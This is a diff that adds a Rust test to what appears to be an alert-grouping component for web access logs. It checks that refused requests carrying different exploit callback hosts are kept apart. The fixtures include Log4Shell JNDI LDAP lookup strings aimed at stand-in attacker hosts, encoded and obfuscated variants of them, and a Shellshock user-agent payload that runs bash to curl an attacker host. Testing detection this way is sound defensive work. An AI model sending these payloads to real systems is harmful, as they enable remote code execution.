@@ -33,6 +33,40 @@ fn a_page_that_a_web_server_gave_is_news_and_one_that_it_refused_is_not() {
 }
 
 #[test]
+fn where_what_a_request_wants_run_leads_is_news_though_it_was_refused() {
+    let request = |url: &str, agent: &str| {
+        let mut alert = decoded(
+            "web-accesslog",
+            json!({"srcip": "203.0.113.5", "url": url, "id": "404"}),
+        );
+        alert["full_log"] = json!(format!(
+            "203.0.113.5 - - [20/Jan/2026:09:02:17 +0000] \"GET {url} HTTP/1.1\" 404 1 \"https://own.example/\" \"{agent}\""
+        ));
+        alert
+    };
+    let look_up = |host: &str| format!("/?x=${{jndi:ldap://{host}/a}}");
+    let seen = request(&look_up("evil-a.example"), "curl");
+    for other in [
+        request(&look_up("evil-b.example"), "curl"),
+        request(&look_up("198.51.100.9:1389"), "curl"),
+        request("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil-b.example%2Fa%7D", "curl"),
+        request("/", "${${lower:j}ndi:ldap://evil-b.example/a}"),
+        request("/", "() { :; }; /bin/bash -c 'curl http://evil-b.example/a'"),
+    ] {
+        assert!(!folds(&seen, &other), "{other}");
+        assert!(folds(&other, &other), "{other}");
+    }
+    for same in [
+        request(&look_up("evil-a.example/b"), "curl"),
+        request(&look_up("q8zt1xkp.evil-a.example"), "curl"),
+        request("/?x=${y}", "curl"),
+        request("/?to=http://evil-b.example/", "curl"),
+    ] {
+        assert!(folds(&seen, &same), "{same}");
+    }
+}
+
+#[test]
 fn the_site_that_a_request_was_for_is_news_where_something_was_given() {
     let request = |status: &str, name: &str, text: &str| {
         let mut alert = decoded(
